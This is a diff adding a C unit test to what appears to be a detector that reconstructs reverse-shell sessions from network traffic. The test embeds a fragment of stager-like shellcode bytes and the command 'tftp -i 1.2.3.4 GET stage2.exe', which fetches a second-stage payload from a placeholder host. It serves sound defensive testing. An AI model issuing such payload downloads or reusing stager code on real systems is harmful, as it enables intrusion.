@@ -175,6 +175,24 @@ static void test_binary_undecided(void)
 	ws_shell_free(s);
 }
 
+/* A reverse shell after a stager: the stage bytes are no part of the first line. */
+static void test_stager_then_banner(void)
+{
+	struct ws_shell *s = ws_shell_new();
+	struct log l = {.n = 0};
+	static const uint8_t len4[] = {0xf0, 0x00, 0x00, 0x00};
+	static const uint8_t stage[] = "\xfc\xe8\x89\x00\x00\x00\x60\x89\xe5\x31\xd2\x64\x8b\x52\x30"
+				      "\x0a\x8b\x52\x0c\x68\x63\x6d\x64\x00\x89\xe3\x57";
+
+	ws_shell_feed(s, WS_SIDE_SERVER, len4, sizeof(len4), &ts0, on_event, &l);
+	ws_shell_feed(s, WS_SIDE_SERVER, stage, sizeof(stage) - 1, &ts0, on_event, &l);
+	feed(s, WS_SIDE_CLIENT, BANNER, &l);
+	feed(s, WS_SIDE_SERVER, "tftp -i 1.2.3.4 GET stage2.exe\n", &l);
+	CHECK(strcmp(l.text, "get stage2.exe@1.2.3.4") == 0, "%s", l.text);
+	CHECK(l.attacker == WS_SIDE_SERVER, "the server typed");
+	ws_shell_free(s);
+}
+
 /* Lines arrive in any segmentation; set and %var% across lines. */
 static void test_segments_and_env(void)
 {
@@ -452,6 +470,7 @@ int main(void)
 	test_victim_only();
 	test_attacker_only();
 	test_binary_undecided();
+	test_stager_then_banner();
 	test_segments_and_env();
 	test_ftp_fields();
 	test_continuation();
